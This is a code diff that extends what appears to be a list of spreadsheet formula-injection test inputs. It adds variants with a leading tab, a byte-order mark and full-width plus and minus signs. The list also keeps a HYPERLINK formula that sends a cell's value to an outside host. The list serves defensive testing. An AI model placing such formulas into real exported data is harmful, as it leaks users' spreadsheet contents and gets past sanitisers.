@@ -24,8 +24,12 @@ FORMULAS: Final = (
     "\t=1",
     "\r=1",
     "\n=1",
+    "\tx",
     "  =1",
+    "\ufeff=1",
     "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
     "\uff20SUM(A1)",
     '=HYPERLINK("https://example.com/?"&A1,"here")',
 )
